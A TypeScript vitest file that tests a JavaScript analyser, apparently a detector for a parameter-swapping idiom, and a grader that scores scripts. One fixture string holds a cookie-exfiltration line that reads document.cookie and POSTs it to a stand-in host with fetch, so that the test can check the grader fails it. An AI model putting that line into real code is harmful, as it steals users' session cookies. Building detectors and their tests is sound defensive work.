import { expect, it } from 'vitest';
import { parseScript } from '../facts/javascript/parse.ts';
import { bindingName } from '../facts/javascript/query.ts';
import type { Unit } from '../program/program.ts';
import { graded } from '../testing/graded.ts';
import { givenOn } from './givenOn.ts';

/** Parameters that are no functions any more, with what stands behind the branch. */
const givenIn = (text: string): [string, string][] => {
  const script = parseScript(text);
  return [...givenOn({ script } as Unit)].map(([binding, end]) => [bindingName(script, binding), text.slice(end)]);
};

it('a parameter was left out where the function in its place is handed on', () => {
  const rest = ' use(o, then); }';
  for (const test of ["typeof o === 'function'", "typeof o == 'function' && typeof then === 'undefined'"]) {
    expect(givenIn(`function f(o, then) { if (${test}) { then = o; o = {}; }${rest}`)).toEqual([['o', rest]]);
    expect(givenIn(`function f(o, then) { if (${test}) then = o, o = void 0;${rest}`)).toEqual([['o', rest]]);
    expect(givenIn(`function f(o, then) { ${test} && (then = o, o = void 0);${rest}`)).toHaveLength(1);
  }
});

it.each([
  "if (typeof o === 'function') { then = o; }",
  "if (typeof o === 'function') { o = {}; }",
  "if (typeof o === 'function') { then = o; o = other; }",
  "if (typeof o === 'function') { then = o; o = {}; } if (then) o = () => 1;",
  "if (typeof o === 'object') { then = o; o = {}; }",
  "if (typeof o === 'function') { call(); } then = o; o = {};",
])('it may be one: %s', (body) => {
  expect(givenIn(`function f(o, then) { ${body} use(o, then); }`)).toEqual([]);
});

it.each(['o(K);', 'const g = o; g(K);', 'for (const g of [o]) g(K);', 'const t = { o }; const { o: g } = t; g(K);'])(
  'it is one where it is called: %s',
  async (use) => {
    const send =
      "const K = document.cookie; const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
    const taking = `function f(o, then) { if (typeof o === 'function' && then === 1) { then = o; o = 0; } ${use} }`;
    expect(await graded({ content: `${send} ${taking} f(send, 2);` })).toBe('F');
  },
);
